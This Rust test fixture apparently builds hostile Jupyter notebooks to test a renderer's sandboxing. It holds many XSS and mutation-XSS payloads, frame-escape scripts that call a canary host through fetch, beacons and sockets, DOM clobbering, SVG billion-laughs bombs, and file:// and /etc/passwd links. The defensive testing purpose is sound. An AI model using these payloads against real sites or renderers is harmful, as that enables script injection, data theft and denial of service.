//! What an attacker may put into a notebook's outputs. Everything that fires says so to a canary on the network.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use crate::display;

/// JavaScript that fires in every way at once.
fn fire(canary: &str) -> String {
    format!("top.__pwned=1;window.__pwned=1;document.title='pwned';new Image().src='http://{canary}/fired'")
}

/// HTML and texts that would fire where they are taken for HTML.
pub(crate) fn html(canary: &str) -> Vec<String> {
    let fire = fire(canary);
    let quoted = fire.replace('\'', "&#39;");
    let characters: Vec<String> =
        format!("javascript:{fire}").chars().map(|c| u32::from(c).to_string()).collect();
    let encoded = format!("&#{};", characters.join(";&#"));
    let at = |path: &str| format!("http://{canary}/{path}");
    vec![
        format!("<script>{fire}</script>"),
        format!("<script src='{}'></script>", at("script")),
        format!("<ScRiPt\n>{fire}</sCrIpT\t>"),
        format!("</title></style></textarea></script><script>{fire}</script>"),
        format!("<img src=x onerror=\"{quoted}\">"),
        format!("<img src='{}'><img srcset='{} 2x'>", at("img"), at("srcset")),
        format!("<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{quoted}'/>\">"),
        format!("<svg onload=\"{quoted}\"><script>{fire}</script><animate onbegin=\"{quoted}\" attributeName=x dur=1s /></svg>"),
        format!("<svg><image href='{0}' xlink:href='{0}'/><use href='{0}#x'/></svg>", at("svg-image")),
        format!("<svg><rect width=9 height=9 style='fill:url({0})' fill='url({0})' filter='url({0})'/></svg>", at("svg-fill")),
        format!("<svg><foreignObject><iframe src='{}'></iframe></foreignObject></svg>", at("foreign")),
        format!("<svg><a xlink:href=\"javascript:{quoted}\"><text y=20>click</text></a></svg>"),
        format!("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={quoted}&gt;\">"),
        format!("<noscript><p title=\"</noscript><img src=x onerror={quoted}>\">"),
        format!("<form><math><mtext></form><form><mglyph><style></math><img src onerror=\"{quoted}\">"),
        format!("<svg></p><style><a id=\"</style><img src=1 onerror={quoted}>\">"),
        format!("<select><template><style><!--</select><img src=x onerror=\"{quoted}\">-->"),
        format!("<xmp><p title=\"</xmp><img src=x onerror={quoted}>\">"),
        format!("<listing>&lt;img src=x onerror={quoted}&gt;</listing><plaintext><img src=x onerror=\"{quoted}\">"),
        format!("<a href=\"javascript:{quoted}\">click</a><a href=\"{encoded}\">click</a><a href=\" &#1;java&Tab;script:{quoted}\">click</a>"),
        format!("<a href=\"data:text/html,<script>{quoted}</script>\" target=_top ping='{}' download>click</a>", at("ping")),
        format!("<iframe src=\"javascript:{quoted}\"></iframe><iframe srcdoc=\"<script>{quoted}</script>\"></iframe><iframe src='{}'></iframe>", at("iframe")),
        format!("<object data='{0}'></object><embed src='{0}'><applet code='{0}'></applet><frameset><frame src='{0}'></frameset>", at("object")),
        format!("<meta http-equiv=refresh content='0;url={}'><base href='{}'><link rel=stylesheet href=x.css>", at("refresh"), at("base/")),
        format!("<link rel=stylesheet href='{0}'><link rel=prefetch href='{0}'><link rel=preconnect href='{0}'><link rel=dns-prefetch href='{0}'><link rel=icon href='{0}'>", at("link")),
        format!("<style>@import '{0}';@font-face{{font-family:f;src:url({0})}}*{{background:url({0});font-family:f}}input[value^=a]{{background:url({0})}}</style>", at("style")),
        format!("<style>\\</style><script>{fire}</script>{{color:red}}</style>"),
        format!("<div style=\"background:url('{0}');background-image:u\\72l({0});list-style:url({0});content:url({0});cursor:url({0}),auto;border-image:url({0})\">x</div>", at("css")),
        format!("<div style=\"background:image-set('{0}' 1x);mask:url({0});-webkit-mask-image:url({0});shape-outside:url({0})\">x</div>", at("css-set")),
        "<div style='position:fixed;inset:0;background:red;z-index:99999'>over all</div>".to_owned(),
        "<div style='margin-top:-9000px;position:absolute;top:-900px;transform:translateY(-100vh)'>over all</div>".to_owned(),
        "<style>*,body,:root,.verdict,header{display:none!important;position:fixed}</style><p>hides the page</p>".to_owned(),
        "<section class='verdict s-info' id=verdict><p class=severity>Informational</p></section><a name=verdict id=cell-1></a>".to_owned(),
        "<form id=body name=title><input name=getElementById></form><img name=title><a id=title name=body></a><img name=body id=documentElement>".to_owned(),
        format!("<form action='{0}'><button formaction='{0}'>b</button><input type=image src='{0}'><isindex type=image src='{0}'></form>", at("form")),
        format!("<video src='{0}' poster='{0}'><source src='{0}'><track src='{0}'></video><audio src='{0}'></audio><picture><source srcset='{0}'></picture>", at("media")),
        format!("<table background='{0}'><tr background='{0}'><td background='{0}'>x</td></tr></table><body background='{0}' onload=\"{quoted}\">", at("background")),
        format!("<details open ontoggle=\"{quoted}\"><summary>x</summary></details><input autofocus onfocus=\"{quoted}\"><marquee onstart=\"{quoted}\">x</marquee>"),
        format!("<div onmouseover=\"{quoted}\" tabindex=0 autofocus contenteditable popover accesskey=x>x</div><button popovertarget=x>x</button>"),
        "a\u{202e}gpj.exe &#x202e;\u{0}\u{2066}x<b title='\u{202d}'>y</b>".to_owned(),
        format!("--><![CDATA[<script>{fire}</script>]]><!--><script>{fire}</script>--><?xml x?><!DOCTYPE x>"),
        format!("<div title=\"&quot;><img src=x onerror={quoted}>\" class='\"><img src=x onerror=1>'>x</div><b \"><img src=x onerror=\"{quoted}\">"),
    ]
}

/// How many of the [`scripts`] leave their frame empty: by `location`, a link and a redirect.
pub(crate) const LEAVING: usize = 3;

/// Scripts that try to leave their frame. Each writes that it ran, and sets `tried` when it has tried all.
pub(crate) fn scripts(canary: &str) -> Vec<String> {
    let at = |path: &str| format!("'http://{canary}/{path}'");
    let attempts = [
        // The page, its place and its storage.
        "top.__pwned = 1; parent.__pwned = 1".to_owned(),
        "parent.document.title = 'pwned'".to_owned(),
        format!("top.location = {}", at("top")),
        format!("parent.location.href = {}", at("parent")),
        format!("open({}); open('about:blank')", at("open")),
        "alert(1); confirm(1); prompt(1); print()".to_owned(),
        "localStorage.x = 1; document.cookie = 'a=b'".to_owned(),
        // The network.
        format!("fetch({0}).catch(() => 0); fetch({0}, {{mode: 'no-cors'}}).catch(() => 0)", at("fetch")),
        format!(
            "new Image().src = {}; document.body.innerHTML += '<img src=' + {} + '>'",
            at("image"),
            at("inner")
        ),
        format!("navigator.sendBeacon({}, 'x')", at("beacon")),
        format!(
            "new XMLHttpRequest().open('GET', {0}, false); let x = new XMLHttpRequest(); x.open('GET', {0}); x.send()",
            at("xhr")
        ),
        format!("new WebSocket('ws://{canary}/socket'); new EventSource({})", at("events")),
        format!("import({}).catch(() => 0)", at("module")),
        // With the very nonce that lets this script run.
        format!(
            "let s = document.createElement('script'); s.nonce = document.currentScript.nonce; s.src = {}; document.head.append(s)",
            at("script")
        ),
        format!(
            "let l = document.createElement('link'); l.rel = 'stylesheet'; l.href = {}; document.head.append(l)",
            at("css")
        ),
        format!(
            "for (let rel of ['prefetch', 'preload', 'preconnect', 'modulepreload', 'icon', 'manifest']) {{ let l = document.createElement('link'); l.rel = rel; l.as = 'script'; l.href = {}; document.head.append(l) }}",
            at("hint")
        ),
        format!(
            "document.body.style.background = 'url(' + {} + ')'; new FontFace('f', 'url(' + {} + ')').load().catch(() => 0)",
            at("background"),
            at("font")
        ),
        format!(
            "new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify({}) + ')'])))",
            at("worker")
        ),
        // Its own place: to go elsewhere, or to have others in it.
        format!("location = {}", at("location")),
        format!(
            "let a = document.createElement('a'); a.href = {}; a.target = '_blank'; document.body.append(a); a.click(); a.target = '_top'; a.click(); a.target = ''; a.download = 'x'; a.click()",
            at("link")
        ),
        format!(
            "let f = document.createElement('form'); f.action = {}; document.body.append(f); f.submit()",
            at("form")
        ),
        format!(
            "let m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + {}; document.head.append(m)",
            at("refresh")
        ),
        format!(
            "let i = document.createElement('iframe'); i.src = {}; document.body.append(i)",
            at("iframe")
        ),
        format!(
            "let i = document.createElement('iframe'); i.srcdoc = '<img src=' + {0} + '><script nonce=' + document.currentScript.nonce + '>top.__pwned=1;fetch(' + JSON.stringify({0}) + ')<\\/script>'; document.body.append(i)",
            at("srcdoc")
        ),
        format!(
            "let i = document.createElement('iframe'); document.body.append(i); i.contentWindow.fetch({}).catch(() => 0)",
            at("blank")
        ),
        format!(
            "let o = document.createElement('object'); o.data = {}; document.body.append(o)",
            at("object")
        ),
        format!(
            "document.open(); document.write('<base href=' + {0} + '><img src=x><script nonce=' + (document.currentScript || {{}}).nonce + ' src=x><\\/script>'); document.close()",
            at("rewritten")
        ),
    ];
    attempts
        .into_iter()
        .map(|attempt| {
            format!(
                "try {{ {attempt} }} catch (error) {{}} \
                 setTimeout(() => {{ (document.body || document.documentElement).append(' ran'); window.tried = true }}, 300)"
            )
        })
        .collect()
}

/// Images of more pixels than there is memory, and what is nested deeper than a stack.
fn too_much() -> Vec<Value> {
    let display = |data: Value| json!({"output_type": "display_data", "metadata": {}, "data": data});
    let png = [
        &b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"[..],
        &60_000_u32.to_be_bytes(),
        &60_000_u32.to_be_bytes(),
        &[1, 0, 0, 0, 0],
    ]
    .concat();
    let gif = [&b"GIF89a"[..], &[255; 4], b"\0\0\0;"].concat();
    let [png, gif] = [png, gif].map(|image| STANDARD.encode(image));
    let deep = 3000;
    let nested = (0..500).fold(json!("x"), |inner, _| json!([{"k": inner}]));
    let item = |depth: usize| format!("{}- x\n", "  ".repeat(depth));
    let texts = [
        "<div>".repeat(deep),
        "<b><i>".repeat(deep),
        format!("{}x{}", "<table><tr><td>".repeat(deep), "</td></tr></table>".repeat(deep)),
        "<svg><g>".repeat(deep),
        format!("{} x", ">".repeat(deep)),
        (0..300).map(item).collect(),
        format!("{}x{}", "[".repeat(deep), "](y)".repeat(deep)),
        format!("{}x{}", "*_".repeat(deep), "_*".repeat(deep)),
        "`".repeat(deep),
        "\u{1b}[1m\u{1b}[38;5;1m".repeat(deep) + "x",
        r"$\href{javascript:alert(1)}{x} \input{/etc/passwd} \def\a{\a\a}\a \html{<script>1</script>} \unicode{x202e}$".to_owned(),
    ];
    let mut outputs = vec![
        display(json!({"image/png": png, "text/plain": "an image"})),
        display(json!({"image/gif": gif, "text/plain": "an image"})),
        display(
            json!({"text/html": format!("<img src='data:image/png;base64,{png}'><img src='data:image/gif;base64,{gif}'>")}),
        ),
        display(json!({"application/json": nested})),
    ];
    let mut cells = Vec::new();
    for text in &texts {
        cells.push(json!({"cell_type": "markdown", "metadata": {}, "source": text}));
        outputs.push(display(json!({"text/html": text})));
        outputs.push(display(json!({"text/markdown": text})));
        outputs.push(display(json!({"text/latex": text})));
        outputs.push(json!({"output_type": "stream", "name": "stdout", "text": text}));
    }
    cells.push(
        json!({"cell_type": "code", "metadata": {}, "source": "", "execution_count": 1, "outputs": outputs}),
    );
    cells
}

/// A notebook that holds all of it everywhere.
pub(crate) fn notebook(canary: &str) -> Value {
    let html = html(canary);
    let fire = fire(canary);
    let display = |data: Value| json!({"output_type": "display_data", "metadata": {"filename": "/etc/passwd"}, "data": data});
    let code = |outputs: Vec<Value>| json!({"cell_type": "code", "metadata": {}, "source": "</code></pre><script>1</script>\u{202e}", "execution_count": 1, "outputs": outputs});
    let mut cells = vec![
        json!({"cell_type": "markdown", "metadata": {}, "source": format!("# Title <script>{fire}</script> <img src=x onerror=x>")}),
    ];
    for text in &html {
        cells.push(json!({"cell_type": "markdown", "metadata": {}, "source": text,
            "attachments": {"x.png": {"image/png": "AAAA\" onerror=\"x", "image/svg+xml": text}}}));
        cells.push(json!({"cell_type": "markdown", "metadata": {}, "source": format!("a {text} b\n\n## {text}\n\n```{text}\n{text}\n```\n\n|{text}|\n|-|\n|{text}|")}));
        cells.push(json!({"cell_type": "raw", "metadata": {"format": "text/html"}, "source": text}));
        cells.push(json!({"cell_type": "odd", "metadata": {}, "source": text}));
        cells.push(code(vec![
            display(json!({"text/html": text, "text/plain": text})),
            display(json!({"text/markdown": text})),
            display(json!({"text/latex": text})),
            display(json!({"text/plain": text})),
            display(json!({"image/svg+xml": format!("<svg xmlns='http://www.w3.org/2000/svg' onload='{fire}'><script>{fire}</script>\
                <image href='http://{canary}/svg'/><foreignObject>{text}</foreignObject></svg>")})),
            display(json!({"image/png": text, "text/plain": text})),
            display(json!({"application/json": {text.as_str(): [text, "</script>", "</pre>"]}})),
            display(json!({"application/javascript": text})),
            display(json!({"application/pdf": text})),
            display(json!({text.as_str(): text})),
            json!({"output_type": "stream", "name": text, "text": format!("\u{1b}]0;x\u{7}\u{1b}[31m{text}\u{1b}[38;2;1;2;3m{text}")}),
            json!({"output_type": "error", "ename": text, "evalue": text, "traceback": [text, format!("\u{1b}[31m{text}")]}),
            json!({"output_type": text, "data": text}),
            display(json!({"application/vnd.jupyter.widget-view+json": {"model_id": "w"}})),
        ]));
    }
    cells.extend(too_much());
    let text = html.concat();
    cells.push(code(vec![display(json!({"application/vnd.rnbexec.verdict+json": {
        "severity": text, "confidence": text, "title": text, "summary": text, "classification": text,
        "classification_reason": text, "classification_comment": text, "labels": [text, text],
        "tasks": [{"title": text, "description": text}], "evidence": [{"kind": text, "entity": text, "severity": text,
        "reason": text, "source": text, "technique": text}]}}))]));
    for link in ["javascript:x()", "data:text/html,x", "vbscript:x", "//evil", "x.html", "file:///etc/passwd"]
    {
        cells.push(json!({"cell_type": "markdown", "metadata": {}, "source":
            format!("[a]({link}) ![a]({link}) <{link}> [r]\n\n[r]: {link}\n\n![i](http://{canary}/md-image)")}));
    }
    json!({"nbformat": 4, "nbformat_minor": 4, "cells": cells, "metadata": {
        "kernelspec": {"name": text, "display_name": text, "language": text},
        "language_info": {"name": text, "version": text},
        "papermill": {"start_time": text, "end_time": text, "duration": 1.0, "exception": true, "parameters": {text.as_str(): text},
            "input_path": text},
        "rnbexec": {"outcome": "cell-failed", "reason": text},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"w": {"model_name": "HTMLModel", "state": {"value": text}}}}},
    }})
}

/// Drawings of a few kilobytes that ask for more elements than any browser can draw, by each way to refer to something, in each
/// form in which an output can hold them.
pub(crate) fn bombs() -> Vec<Value> {
    let svg = |content: &str| {
        format!(
            "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='99' height='99' \
             viewBox='0 0 9 9'>{content}</svg>"
        )
    };
    let laughs = |levels: usize, container: &str, reference: &str, last: &str| {
        let end = container.split(' ').next().unwrap_or_default();
        let mut content = format!("<{container} id='l0'><rect width='1' height='1' fill='red'/></{end}>");
        for level in 1..=levels {
            let below = reference.replace("BELOW", &format!("l{}", level - 1)).repeat(10);
            content = format!("{content}<{container} id='l{level}'>{below}</{end}>");
        }
        svg(&format!("<defs>{content}</defs>{}", last.replace("LAST", &format!("l{levels}"))))
    };
    let painted = "<rect width='9' height='9' fill='url(#BELOW)'/>";
    let pattern = "pattern width='.1' height='.1'";
    let drawings = [
        laughs(9, "g", "<use href='#BELOW'/>", "<use href='#LAST'/>"),
        laughs(9, "g", "<use xlink:href=' #BELOW ' x='1'/>", "<use href='#LAST'/>"),
        laughs(9, "symbol", "<use href='#BELOW'/>", "<use href='#LAST'/>"),
        laughs(9, pattern, painted, "<rect width='9' height='9' fill='url(#LAST)'/>"),
        laughs(
            9,
            "mask",
            "<rect width='9' height='9' style='mask:url(#BELOW)'/>",
            "<rect width='9' height='9' mask='url(#LAST)'/>",
        ),
        laughs(9, "filter", "<feImage href='#BELOW'/>", "<rect width='9' height='9' filter='url(#LAST)'/>"),
        format!("<!DOCTYPE svg [<!ATTLIST use href CDATA '#a'>]>{}", svg("<g id='a'><use/><use/></g>")),
    ];
    let encoded = |svg: &str| {
        format!("data:image/svg+xml,{}", svg.replace('%', "%25").replace('#', "%23").replace('"', "%22"))
    };
    let image = |svg: &str| json!({"text/html": format!("<p>before</p><img src=\"{}\">", encoded(svg))});
    let markdown = |svg: &str| json!({"text/markdown": format!("![x](<{}>)", encoded(svg).replace('<', "%3C").replace('>', "%3E"))});
    let inline = |svg: &str| json!({"text/html": svg});
    let nested = |inner: &str| {
        svg(&format!("<image href=\"{}\" width='9' height='9'/>", encoded(inner).replace('<', "%3C")))
    };
    let mut outputs: Vec<Value> = drawings
        .iter()
        .map(|svg| display(&json!({"image/svg+xml": svg, "text/plain": "a drawing"})))
        .collect();
    outputs.extend(drawings.iter().map(|svg| display(&image(svg))));
    outputs.push(display(&markdown(&drawings[0])));
    outputs.push(display(&inline(&drawings[0])));
    outputs.push(display(&json!({"image/svg+xml": nested(&drawings[0]), "text/plain": "a drawing"})));
    outputs
}
